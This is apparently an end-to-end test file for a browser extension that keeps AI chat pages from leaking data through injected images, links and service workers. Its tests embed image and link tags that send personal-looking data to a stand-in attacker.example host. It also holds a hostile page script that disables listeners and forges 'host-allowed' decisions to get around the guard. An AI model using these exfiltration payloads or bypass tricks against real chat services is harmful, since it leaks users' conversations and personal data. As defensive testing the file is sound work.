import type { Browser as ExtensionApis } from 'webextension-polyfill';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { parseChatReport, type Attempt } from '../../lib/model/attempt';
import { findFirefox } from '../../scripts/find-browser.mjs';
import { waitUntil } from '../../scripts/drive/guarded-browser';
import type { Answer } from '../../scripts/drive/serve';
import { chatPage, openChatLab, type ChatLab, type ChatTab } from '../harness/chat-lab';

declare const chrome: ExtensionApis;

const chat = 'https://chat.mistral.ai';
/** A chat that is a part of a site: its rules follow the tab. */
const part = 'https://kagi.com/assistant';
const attacker = 'https://attacker.example';

/** Served by a worker of the site from the second visit on. It hands each request on, as such workers do. */
const worker: Answer = {
  type: 'text/javascript',
  body: `addEventListener('install', () => skipWaiting());
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));
    addEventListener('fetch', (event) => event.respondWith(fetch(event.request)));
    addEventListener('message', ({ data, source }) =>
      fetch(data, { mode: 'no-cors' }).then(() => source.postMessage('passed'), () => source.postMessage('held')));`,
};

/** Does what a page can against the guard, before the guard's own script is there. */
const hostile = `<script>
  for (const name of ['click', 'auxclick', 'submit', 'load', 'error'])
    window.addEventListener(name, (event) => event.stopImmediatePropagation(), true);
  Element.prototype.attachShadow = () => { throw new Error('No.'); };
  Element.prototype.closest = () => null;
  window.MutationObserver = class { observe() {} disconnect() {} };
  setInterval(() => {
    for (const frame of document.querySelectorAll('iframe')) frame.remove();
    postMessage({ name: 'decide', payload: { id: 'any', decision: 'host-allowed' } }, '*');
    dispatchEvent(new CustomEvent('released'));
  }, 20);
</script>`;

/** Loads itself anew three times, at ever later moments: a guard that was brought for one document meets the next one. */
const restless = `<script>
  const turn = Number(sessionStorage.getItem('turn') ?? 0);
  sessionStorage.setItem('turn', turn + 1);
  if (turn < 3) setTimeout(() => location.reload(), 40 * turn);
  else sessionStorage.removeItem('turn');
</script>`;

function web(url: URL): Answer | null {
  if (url.pathname.endsWith('.png') || url.pathname.endsWith('.gif'))
    return url.pathname.endsWith('.gif') ? pixel : null;
  if (url.pathname === '/sw.js') return worker;
  if (url.pathname === '/nothing') return { status: 204 };
  if (url.pathname === '/hostile') return chatPage(hostile);
  if (url.pathname === '/restless') return chatPage(restless);
  if (url.hostname.endsWith('.example'))
    return { type: 'text/html', body: '<!doctype html><title>Elsewhere</title>' };
  return chatPage();
}

const pixel: Answer = {
  type: 'image/svg+xml',
  body: '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>',
};

/** Three times what a report keeps. A driven browser tells its driver of each, so thousands take minutes of it alone. */
const FLOOD = 600;

const names = findFirefox() ? (['chromium', 'firefox'] as const) : (['chromium'] as const);

describe.each(names)('a chat in trouble in %s', (name) => {
  let lab: ChatLab;
  let tab: ChatTab;

  beforeAll(async () => {
    lab = await openChatLab(name, web);
    tab = await lab.openChat(`${chat}/c/1`);
  });
  afterAll(() => lab.close());
  afterEach(() => lab.change({ chatModes: {}, chatHosts: [], allowedHosts: [] }));

  /** Opens a chat anew; what left until then is no longer told. */
  const fresh = async (address = `${chat}/c/1`) => {
    await tab.visit(address);
    lab.left();
  };
  const changeSessionRules = (change: object) =>
    lab.browser.inExtension(async (payload) => {
      const rules: { updateSessionRules: (change: object) => Promise<void> } = Reflect.get(
        chrome,
        'declarativeNetRequest',
      );
      await rules.updateSessionRules(payload);
    }, change);
  const arrives = (what: string) => {
    const seen: string[] = [];
    return waitUntil(
      async () => {
        seen.push(...lab.left());
        return seen;
      },
      (all) => all.includes(what),
    );
  };

  it('has the same rules in two tabs, and a decision for one address in one', async () => {
    await fresh();
    const other = await lab.openChat(`${chat}/c/2`);
    await tab.say(`<img src="${attacker}/one.png"><img src="${attacker}/two.png">`);
    await other.say(`<img src="${attacker}/one.png">`);
    const [first] = await tab.attemptsAre((all) => all.length === 2);
    await other.attemptsAre((all) => all.length === 1);
    expect(await tab.decide(first?.id, 'shown-once')).toBe(true);
    await arrives('attacker.example/one.png');
    await other.say(`<img src="${attacker}/one.png?again">`);
    const inOther = await other.attemptsAre((all) => all.length === 2);
    expect(inOther.map(({ state }) => state)).toEqual(['held', 'held']);
    expect(await other.decide(inOther[1]?.id, 'host-allowed')).toBe(true);
    await arrives('attacker.example/one.png?again');
    await tab.say(`<img src="${attacker}/three.png">`);
    await arrives('attacker.example/three.png');
    await other.close();
  });

  it('knows the conversation of a page that was loaded anew while it loaded', async () => {
    await fresh(`${chat}/restless`);
    const isSettled = () =>
      tab
        .evaluate(() => sessionStorage.getItem('turn') === null && document.readyState === 'complete', null)
        .catch(() => false);
    await waitUntil(isSettled, (settled) => settled);
    await waitUntil(
      () => lab.stored('session', `conversation:${tab.id}`),
      (text) => text !== null,
    );
    await tab.say(`<img src="${attacker}/known.png?for=Jordan+Example+482913">`);
    const [attempt] = await tab.attemptsAre((all) => all.length === 1);
    expect(attempt?.verdict.gravity).toBe('loud');
  });

  it('guards a page that comes back from the past', async () => {
    await fresh();
    await tab.goto('https://honest.example/');
    await tab.evaluate(() => history.back(), null).catch(() => undefined);
    await waitUntil(tab.address, (href) => href === `${chat}/c/1`);
    lab.left();
    await tab.say(`<img src="${attacker}/back.png">`);
    await tab.attemptsAre((all) => all[0]?.answer !== null && all.length === 1);
    expect(lab.left()).toEqual([]);
  });

  it.each(['strict', 'guard'] as const)('holds what a worker of the site hands on, in %s', async (mode) => {
    await lab.change({ chatModes: { 'le-chat': mode } });
    await fresh();
    await tab.evaluate(async () => {
      await navigator.serviceWorker.register('/sw.js');
      await navigator.serviceWorker.ready;
    }, null);
    await fresh();
    expect(await tab.evaluate(() => navigator.serviceWorker.controller !== null, null)).toBe(true);
    const picture = `by-worker-in-${mode}.png`;
    await tab.say(`Look: <img src="${attacker}/${picture}"><img id="own" src="/own.png">`);
    await waitUntil(
      () =>
        tab.evaluate(() => {
          const own = document.getElementById('own');
          return own instanceof HTMLImageElement && own.naturalWidth > 0;
        }, null),
      (isThere) => isThere,
    );
    const said = await tab.evaluate(
      (url) =>
        new Promise((resolve) => {
          navigator.serviceWorker.addEventListener('message', ({ data }) => resolve(data), { once: true });
          navigator.serviceWorker.startMessages();
          navigator.serviceWorker.controller?.postMessage(url);
        }),
      `${attacker}/asked-by-worker`,
    );
    // What it asks for itself is held in strict, and where it cannot be told from what it hands on.
    const isHeld = mode === 'strict' || name === 'chromium';
    expect(said).toBe(isHeld ? 'held' : 'passed');
    expect(lab.left()).toEqual(isHeld ? [] : ['attacker.example/asked-by-worker']);
    // Where it stood is told a moment after it was held.
    const isPlaced = (now: readonly Attempt[]) =>
      mode === 'strict' || now.some(({ url, answer }) => url.endsWith(picture) && answer !== null);
    const all = await tab.attemptsAre((now) => now.length === (isHeld ? 2 : 1) && isPlaced(now));
    const held = all.find(({ url }) => url.endsWith(picture));
    expect(held).toBeDefined();
    if (mode === 'guard') expect(held).toMatchObject({ answer: 'Look:', verdict: { kind: 'image' } });

    // Scripts of the app ask whom they like in guard, at the latest from their second request on.
    const asks = () =>
      tab.evaluate(
        (url) =>
          fetch(url, { mode: 'no-cors' }).then(
            () => true,
            () => false,
          ),
        'https://telemetry.example/app',
      );
    if (mode === 'guard') await waitUntil(asks, (passed) => passed);
    else expect(await asks()).toBe(false);
    lab.left();
    await tab.say(`<img src="${attacker}/more.png"><img src="${attacker}/${picture}">`);
    await tab.attemptsAre((now) => now.some(({ url }) => url.endsWith('/more.png')));
    expect(lab.left()).toEqual([]);
    expect(await tab.decide(held?.id, 'shown-once')).toBe(true);
    await arrives(`attacker.example/${picture}`);
    await tab.evaluate(async () => {
      for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
    }, null);
  });

  it('stands against a page that undoes hooks and sends messages of its own', async () => {
    await fresh(`${chat}/hostile`);
    await tab.say(
      `<img src="${attacker}/hostile.png"><a id="go" href="${attacker}/?for=Jordan+Example+482913">Go</a>`,
    );
    const [attempt] = await tab.attemptsAre((all) => all.length === 1);
    expect(attempt?.state).toBe('held');
    await tab.click('#go');
    await waitUntil(tab.address, (href) => href.includes('/leaving.html#'));
    expect(lab.left()).toEqual([]);
    expect(await lab.stored('local', 'settings')).toMatchObject({ allowedHosts: [] });
  });

  it('counts a flood of pictures to the last, and lets none out', async () => {
    await fresh();
    await tab.say(Array.from({ length: FLOOD }, (_, n) => `<img src="${attacker}/${n}.png">`).join(''));
    const counted = async () => parseChatReport(await lab.stored('session', `chat:${tab.id}`));
    await waitUntil(
      counted,
      (report) => report !== null && report.attempts.length + report.more === FLOOD,
      60_000,
    );
    expect(await tab.evaluate(() => document.querySelectorAll('img').length, null)).toBe(FLOOD);
    expect(lab.left()).toEqual([]);
  });

  // Firefox has no network rules here: none to keep, and no room for them to run out of.
  it.runIf(name === 'chromium')('keeps no rules of a tab that was closed', async () => {
    const other = await lab.openChat(`${part}/closed`);
    const count = () =>
      lab.browser.inExtension(async (id) => {
        const rules: {
          getSessionRules: () => Promise<readonly { condition: { tabIds?: readonly number[] } }[]>;
        } = Reflect.get(chrome, 'declarativeNetRequest');
        return (await rules.getSessionRules()).filter(({ condition }) => condition.tabIds?.includes(id))
          .length;
      }, other.id);
    expect(await count()).toBeGreaterThan(0);
    await other.close();
    await waitUntil(count, (left) => left === 0);
  });

  it('loses neither what it holds nor a decision when storage is full', async () => {
    await fresh();
    await lab.browser.inExtension(async () => {
      for (const area of [chrome.storage.session, chrome.storage.local]) {
        // Until nothing fits any more: large pieces first, then small ones.
        for (const size of [1_000_000, 100_000, 10_000, 1_000, 100]) {
          for (let n = 0; n < 12; n += 1) {
            const fits = await area.set({ [`ballast-${size}-${n}`]: 'x'.repeat(size) }).then(
              () => true,
              () => false,
            );
            if (!fits) break;
          }
        }
      }
    }, null);
    await tab.say(`<img id="full" src="${attacker}/full.png">`);
    const id = await waitUntil(
      () =>
        tab.evaluate(() => {
          const image = document.getElementById('full');
          return image === null || (image instanceof HTMLImageElement && image.complete);
        }, null),
      (isDone) => isDone,
    );
    expect(id).toBe(true);
    expect(lab.left()).toEqual([]);
    await lab.browser.inExtension(async () => {
      for (const area of [chrome.storage.session, chrome.storage.local]) {
        const all = Object.keys(await area.get(null)).filter((key) => key.startsWith('ballast'));
        await area.remove(all);
      }
    }, null);
    await tab.say(`<img src="${attacker}/after.png">`);
    const all = await tab.attemptsAre((now) => now.some(({ url }) => url.endsWith('/after.png')));
    expect(all.map(({ url }) => url)).toEqual([`${attacker}/full.png`, `${attacker}/after.png`]);
    expect(await tab.decide(all[0]?.id, 'shown-once')).toBe(true);
    await arrives('attacker.example/full.png');
  });

  it('guards below its host and on every port, and allows a host with its port only', async () => {
    for (const address of ['https://eu.chat.mistral.ai/c/1', 'https://chat.mistral.ai:8443/c/1']) {
      await fresh(address);
      await tab.say(`<img src="${attacker}:8443/port.png"><img src="${attacker}/plain.png">`);
      await tab.attemptsAre((all) => all.length === 2);
      expect(lab.left()).toEqual([]);
    }
    const held = await tab.attempts();
    const withPort = held.find(({ url }) => url.includes(':8443'));
    expect(await tab.decide(withPort?.id, 'host-allowed')).toBe(true);
    await arrives('attacker.example:8443/port.png');
    await tab.say(`<img src="${attacker}:8443/more.png"><img src="${attacker}/more.png">`);
    await tab.attemptsAre((all) => all.some(({ url }) => url === `${attacker}/more.png`));
    await arrives('attacker.example:8443/more.png');
  });

  it('keeps the rules of a tab when a page does not arrive, and follows a decision there', async () => {
    await fresh(`${part}/1`);
    await tab.evaluate(() => void (location.href = '/nothing'), null);
    await tab.say(`<img src="${attacker}/stays.png">`);
    const [attempt] = await tab.attemptsAre((all) => all.length === 1);
    expect(lab.left()).toEqual([]);
    expect(await tab.decide(attempt?.id, 'host-allowed')).toBe(true);
    await arrives('attacker.example/stays.png');
    await tab.say(`<img src="${attacker}/next.png"><img src="https://other.example/next.png">`);
    await arrives('attacker.example/next.png');
    await tab.attemptsAre((all) => all.some(({ url }) => url === 'https://other.example/next.png'));
    expect(lab.left()).toEqual([]);
  });

  it('holds a place on its record from the fourth picture on that nobody can see', async () => {
    await fresh();
    const record = 'https://mistralaichatupprodswe.blob.core.windows.net';
    const since = lab.world.seen.length;
    const asked = () => lab.world.seen.slice(since).filter((line) => line.includes(`${record}/`)).length;
    const arrive = (wanted: number) =>
      waitUntil(
        async () => asked(),
        (count) => count === wanted,
      );
    const gallery = Array.from({ length: 60 }, (_, n) => `<img src="${record}/gallery/${n}.png">`).join('');
    await tab.say(gallery);
    await arrive(60);
    await tab.say([...'jan'].map((letter) => `<img src="${record}/${letter}.gif">`).join(''));
    await arrive(63);
    const [told] = await tab.attemptsAre((all) => all.length === 1);
    expect(told).toMatchObject({
      state: 'let-through',
      verdict: { gravity: 'loud', reasons: ['many-unseen'] },
    });
    await tab.say(`<img src="${record}/e.gif"><img src="${record}/gallery/61.png">`);
    await tab.attemptsAre((all) => all.filter(({ state }) => state === 'held').length === 2);
    expect(asked()).toBe(63);
    await fresh();
    // The rule of the page before may hold the first pictures of the next.
    let next = 62;
    await waitUntil(
      async () => {
        await tab.say(`<img src="${record}/gallery/${next++}.png">`);
        return asked();
      },
      (count) => count > 63,
    );
  });

  it('asks for each destination once in strict, unless a link is loud', async () => {
    await lab.change({ chatModes: { 'le-chat': 'strict' } });
    await fresh();
    const follow = async (url: string) => {
      await tab.visit(`${chat}/c/1`);
      await tab.say(`<a id="go" href="${url}">An article</a>`);
      await tab.click('#go');
      // On its way, Firefox shows an empty page.
      return waitUntil(tab.address, (href) => /^[a-z-]+:\/\//.test(href) && !href.startsWith(chat));
    };
    expect(await follow('https://honest.example/one')).toContain('/leaving.html#');
    await waitUntil(
      () =>
        tab.evaluate(() => document.querySelectorAll('.leaving-buttons .button').length, null).catch(() => 0),
      (count) => count >= 3,
    );
    await tab.click('.leaving-buttons .button:nth-child(2)');
    await waitUntil(tab.address, (href) => href === 'https://honest.example/one');
    await follow('https://honest.example/two');
    await waitUntil(tab.address, (href) => href === 'https://honest.example/two');
    lab.left();
    await follow('https://honest.example/three?for=Jordan+Example+482913');
    await waitUntil(
      () => tab.evaluate(() => document.body.innerText, null).catch(() => ''),
      (text) => text.includes('Jordan Example 482913'),
    );
    await follow('https://other.example/one');
    await waitUntil(
      () => tab.evaluate(() => document.body.innerText, null).catch(() => ''),
      (text) => text.includes('other.example'),
    );
    // The icon of the page that was gone to may be asked for late.
    expect(lab.left().filter((asked) => asked !== 'honest.example/favicon.ico')).toEqual([]);
  });

  it.runIf(name === 'chromium')(
    'holds on without patterns when the browser has no room for more',
    async () => {
      await fresh();
      const ids = await lab.browser.inExtension(async () => {
        const rules: { updateSessionRules: (change: object) => Promise<void> } = Reflect.get(
          chrome,
          'declarativeNetRequest',
        );
        const added: number[] = [];
        // Until not one more fits: in large steps first, then in small ones.
        for (const step of [250, 50, 10, 1]) {
          for (let round = 0; round < 10; round += 1) {
            const fresh = Array.from({ length: step }, (_, n) => 2_000_000 + added.length + n);
            const addRules = fresh.map((id) => ({
              id,
              action: { type: 'allow' },
              condition: { tabIds: [999_999], regexFilter: `^https://room-${id}/`, resourceTypes: ['image'] },
            }));
            const fits = await rules.updateSessionRules({ addRules }).then(
              () => true,
              () => false,
            );
            if (!fits) break;
            added.push(...fresh);
          }
        }
        return added;
      }, null);
      expect(ids.length).toBeGreaterThan(500);
      await fresh(`${part}/full`);
      await tab.say(`<img src="${attacker}/no-room.png">`);
      await tab.attemptsAre((all) => all.length === 1);
      expect(lab.left()).toEqual([]);
      await changeSessionRules({ removeRuleIds: ids });
    },
  );

  // In Firefox the guard hears of no others: it tells what its own listener held.
  it.runIf(name === 'chromium')('does not count what somebody else stopped', async () => {
    await fresh();
    // A rule that is none of the guard's, as another extension would have it.
    const condition = { urlFilter: '|https://chat.mistral.ai/blocked.png|', resourceTypes: ['image'] };
    await changeSessionRules({
      addRules: [{ id: 3_000_000, priority: 100, action: { type: 'block' }, condition }],
    });
    await tab.say(`<img src="/blocked.png"><img src="${attacker}/ours.png">`);
    await tab.attemptsAre((all) => all.some(({ url }) => url.endsWith('/ours.png')));
    expect((await tab.attempts()).map(({ url }) => url)).toEqual([`${attacker}/ours.png`]);
    await changeSessionRules({ removeRuleIds: [3_000_000] });
  });
});
